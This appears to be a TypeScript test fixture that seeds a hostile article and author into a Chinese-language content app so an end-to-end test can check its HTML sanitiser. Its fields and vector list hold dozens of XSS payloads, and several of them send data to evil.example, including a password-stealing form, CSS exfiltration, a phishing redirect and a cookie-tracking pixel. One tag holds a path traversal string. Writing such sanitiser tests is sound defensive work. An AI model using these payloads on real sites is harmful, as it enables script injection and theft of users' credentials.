import { article, body, cover, h2, h3, p } from '../html.ts';
import type { ArticleSeed, AuthorSeed } from '../schema.ts';

/**
 * A deliberately hostile article and author, so the app's sanitiser can be tested end to end
 * (issue 5). Every vector calls alert('xss-…') or reaches evil.example: an e2e test that
 * listens for dialogs and requests to evil.example proves none of them survived.
 * The service returns this HTML untouched — sanitising is the app's job.
 */
export const HOSTILE_ARTICLE_ID = 900;
export const HOSTILE_AUTHOR_ID = 99;

export const HOSTILE_AUTHOR: AuthorSeed = {
  id: HOSTILE_AUTHOR_ID,
  type: 'author',
  name: `測試作者<img src=x onerror=alert('xss-author')>`,
  avatar: '/static/covers/authors/test.svg',
  bio: `<script>alert('xss-bio')</script>這是安全測試用的作者，自介含有 "引號"、'單引號' 與 & 符號。`,
};

/** [label, payload] pairs: the label names the vector so a failing test can say which one leaked. */
export const XSS_VECTORS: readonly (readonly [string, string])[] = [
  ['script 標籤', `<script>alert('xss-script')</script>`],
  ['大寫外部 script', `<SCRIPT SRC="https://evil.example/xss.js"></SCRIPT>`],
  ['img onerror', `<img src="x" onerror="alert('xss-img-onerror')">`],
  ['svg onload', `<svg onload="alert('xss-svg-onload')"><circle r="10"></circle></svg>`],
  ['svg 內的 script', `<svg><script>alert('xss-svg-script')</script></svg>`],
  ['svg animate onbegin', `<svg><animate onbegin="alert('xss-animate')" attributeName="x" dur="1s"></animate></svg>`],
  ['svg xlink:href', `<svg><a xlink:href="javascript:alert('xss-xlink')"><text x="20" y="20">svg 連結</text></a></svg>`],
  ['javascript: 連結', `<a href="javascript:alert('xss-js-url')">點我看報告</a>`],
  ['大小寫混合與空白', `<a href="  JaVaScRiPt:alert('xss-js-mixed')">混合大小寫</a>`],
  ['實體編碼', `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('xss-entity')">實體編碼連結</a>`],
  ['tab 分隔協定', `<a href="java\tscript:alert('xss-tab')">tab 連結</a>`],
  ['vbscript', `<a href="vbscript:msgbox('xss-vbscript')">vbscript</a>`],
  ['data: HTML 連結', `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzLWRhdGEnKTwvc2NyaXB0Pg==">data 連結</a>`],
  ['iframe 外部', `<iframe src="https://evil.example/frame"></iframe>`],
  ['iframe srcdoc', `<iframe srcdoc="<script>alert('xss-srcdoc')</script>"></iframe>`],
  ['object data', `<object data="data:text/html,<script>alert('xss-object')</script>"></object>`],
  ['embed', `<embed src="javascript:alert('xss-embed')">`],
  ['style url javascript', `<div style="background-image:url(javascript:alert('xss-style-url'))">背景圖</div>`],
  ['style expression', `<div style="width: expression(alert('xss-expression'))">expression</div>`],
  ['style 外洩追蹤', `<p style="background:url('https://evil.example/track.png?leak=1')">追蹤背景</p>`],
  ['style 標籤', `<style>@import 'https://evil.example/x.css'; input[value^="a"]{background:url(https://evil.example/exfil?a)}</style>`],
  ['link stylesheet', `<link rel="stylesheet" href="https://evil.example/x.css">`],
  ['meta refresh', `<meta http-equiv="refresh" content="0;url=https://evil.example/phish">`],
  ['base href', `<base href="https://evil.example/">`],
  ['form action', `<form action="https://evil.example/steal" method="post"><input name="password" type="password" placeholder="請輸入密碼"><button formaction="javascript:alert('xss-formaction')">送出</button></form>`],
  ['details ontoggle', `<details open ontoggle="alert('xss-ontoggle')"><summary>展開</summary>內容</details>`],
  ['input autofocus', `<input autofocus onfocus="alert('xss-autofocus')">`],
  ['body onload', `<body onload="alert('xss-body')">`],
  ['video source onerror', `<video><source onerror="alert('xss-video')"></video>`],
  ['audio onerror', `<audio src="x" onerror="alert('xss-audio')"></audio>`],
  ['srcset javascript', `<img src="/static/covers/charts/line.svg" srcset="javascript:alert('xss-srcset') 1x" alt="srcset">`],
  ['自訂元素事件', `<xss-el onpointerenter="alert('xss-custom')">滑過我</xss-el><div onclick="alert('xss-onclick')">點我</div>`],
  ['破損標記', `<<script>alert('xss-broken');//<</script><img """><script>alert('xss-quotes')</script>">`],
  ['註解截斷', `<!--<img src="--><img src=x onerror=alert('xss-comment')//">`],
  ['noscript 變異', `<noscript><p title="</noscript><img src=x onerror=alert('xss-noscript')>"></p></noscript>`],
  ['math 變異 (mXSS)', `<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-mxss')></style></mglyph></table></mtext></math>`],
  ['textarea 跳脫', `<textarea></textarea><script>alert('xss-textarea')</script>`],
  ['script 跳脫字串', `</script><script>alert('xss-breakout')</script>`],
  ['樣板注入', `{{constructor.constructor('alert("xss-template")')()}} \${alert('xss-template-literal')}`],
  ['外部連結（應加 rel）', `<a href="https://evil.example/article" target="_blank">外部網站連結</a>`],
  ['追蹤像素', `<img src="https://evil.example/pixel.gif?cookie=1" width="1" height="1" alt="">`],
];

export const HOSTILE_ARTICLE: ArticleSeed = article({
  id: HOSTILE_ARTICLE_ID,
  authorId: HOSTILE_AUTHOR_ID,
  title: `【測試】XSS 防護測試文章 </script><script>alert("xss-title")</script>`,
  summary: `安全測試用文章：摘要也帶有 <img src=x onerror=alert('xss-summary')>、"雙引號"、'單引號' 與 & 符號。`,
  categoryTags: [],
  tags: ['測試', '<script>alert("xss-tag")</script>', '../../etc/passwd'],
  cover: cover('test', '安全測試文章封面'),
  publishedAt: '2026-06-01T00:00:00Z',
  totalViews: 42,
  body: body(
    p(`這是一篇<strong>安全測試</strong>文章<img src=x onerror="alert('xss-teaser')">，內容刻意包含各種 XSS 攻擊字串，用來驗證網站的 HTML 清理機制。正常的段落、標題與清單應該照常顯示。`),
    h2('正常內容'),
    p('以下每一節都包含一種攻擊手法。清理之後，讀者應該只看到無害的文字與安全的連結，瀏覽器不應執行任何腳本，也不應向 evil.example 發出任何請求。'),
    ...XSS_VECTORS.map(([label, payload]) => `${h3(label)}\n${payload}`),
    h2('結尾'),
    p('如果你看到任何彈出視窗，代表清理機制有漏洞。'),
  ),
});
